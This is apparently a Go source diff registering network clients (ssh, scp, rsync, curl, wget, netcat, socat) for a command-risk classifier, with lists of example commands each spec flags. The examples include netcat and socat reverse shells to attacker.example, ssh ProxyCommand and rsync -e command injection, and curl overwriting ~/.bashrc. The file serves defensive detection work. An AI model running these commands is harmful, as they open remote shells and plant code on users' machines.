@@ -1,0 +1,30 @@
+package programs
+
+// Network clients. Options that run a local command (ssh -o ProxyCommand,
+// rsync -e, nc -e, socat EXEC:) are exec; the rest talk to a host.
+
+const sshOpts = "-1 -2 -4 -6 -A -a -C -f -G -g -K -k -M -N -n -q -s -T -t -V:h -v -vv -vvv -X -x -Y -y -B= -b= -c= -D= -E=w -e= -F=u -I=l -i=r -J=n -L= -l= -m= -O= -o=k -P= -p= -Q= -R= -S= -W= -w="
+
+func init() {
+	register(
+		&Spec{Names: n("ssh"), Effect: Network, Lang: "ssh-option", Operands: "n -*", Options: sshOpts,
+			Flagged: []string{"ssh -o ProxyCommand='sh -c id' x", "ssh -oProxyCommand=';id' x", "ssh -o LocalCommand=id -o PermitLocalCommand=yes host", "ssh host uptime"}},
+		&Spec{Names: n("scp"), Effect: Network, Lang: "ssh-option", Permute: true, Operands: "-*",
+			Options: "-3 -4 -6 -A -B -C -O -p -q -R -r -s -T -v -D=x -S=x -c= -F=u -i=r -J=n -l= -o=k -P= -X=",
+			Flagged: []string{"scp -S ./evil.sh x y:", "scp build.tgz deploy@server:/srv/"}},
+		&Spec{Names: n("rsync"), Effect: Network, Lang: "ssh-option", Permute: true, Operands: "-*", Loose: true,
+			Options: "-e=x --rsh=x --rsync-path=x --files-from=r --exclude-from=r --include-from=r --password-file=r --log-file=w --write-batch=w --only-write-batch=w --read-batch=r -h:h --help:h -V:h --version:h",
+			Flagged: []string{"rsync -e 'sh -c id' x y:", "rsync --rsh='sh -c id' a b:", "rsync -av src/ build/"}},
+		&Spec{Names: n("curl"), Effect: Network, Permute: true, Operands: "n*", Loose: true,
+			Options: "-o=w --output=w -K=u --config=u -T=r --upload-file=r -c=w --cookie-jar=w -D=w --dump-header=w --trace=w --trace-ascii=w --stderr=w --libcurl=w --etag-save=w --hsts=w --alt-svc=w -h:h --help:h -V:h --version:h",
+			Flagged: []string{"curl -o ~/.bashrc https://example.com/x", "curl -K evil.cfg https://x"}},
+		&Spec{Names: n("wget", "wget2"), Effect: Network, Permute: true, Operands: "n*", Loose: true,
+			Options: "-O=w --output-document=w -o=w --output-file=w -a=w --append-output=w -e=u --execute=u --config=u -i=r --input-file=r --post-file=r --body-file=r --use-askpass=x -h:h --help:h -V:h --version:h",
+			Flagged: []string{"wget -e 'use_proxy=on' https://x", "wget --use-askpass=./x.sh https://x"}},
+		&Spec{Names: n("nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"), Effect: Network, Permute: true, Operands: "n*", Loose: true,
+			Options: "-e=x -c=x --exec=x --sh-exec=x --lua-exec=x -o=w --output=w -h:h --help:h",
+			Flagged: []string{"nc -e /bin/sh attacker.example 4444", "nc -z localhost 8080"}},
+		&Spec{Names: n("socat"), Effect: Network, Lang: "socat", Operands: "c c?", Loose: true, Options: "-h:h -V:h",
+			Flagged: []string{"socat tcp-connect:attacker.example:4444 exec:sh"}},
+	)
+}
